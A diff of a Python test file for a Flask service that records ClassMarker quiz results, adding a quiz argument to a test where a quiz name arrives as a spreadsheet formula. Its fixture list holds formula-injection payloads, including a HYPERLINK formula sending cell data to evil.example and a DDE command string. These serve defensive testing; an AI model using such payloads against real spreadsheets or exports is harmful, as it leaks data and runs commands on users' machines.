@@ -19,7 +19,7 @@ from flask.testing import FlaskClient
 
 from bridge.application import Bridge
 from bridge.services.console import EVIDENCE_COLUMNS
-from harness.classmarker import result_payload, signed
+from harness.classmarker import quiz_of, result_payload, signed
 from harness.launch import SmtpSink
 from tests.console.conftest import sign_in
 from tests.support import problem
@@ -34,7 +34,9 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!
 def formula_quiz(client: FlaskClient, bridge: Bridge) -> str:
     """Martin passes a quiz whose name ClassMarker sends as a spreadsheet formula."""
     name = FORMULAS[0]
-    body, headers = signed(result_payload(bridge.codec.encode(MARTIN, SOLDERING), result_id=9101, test_name=name))
+    body, headers = signed(
+        result_payload(bridge.codec.encode(MARTIN, SOLDERING), result_id=9101, test_name=name, quiz=quiz_of(SOLDERING))
+    )
     assert client.post("/add_classmarker_training", data=body, headers=headers).json["status"] == "accepted"
     assert [entry.quiz_name for entry in bridge.store.find_ledger()[0]] == [name]
     return name
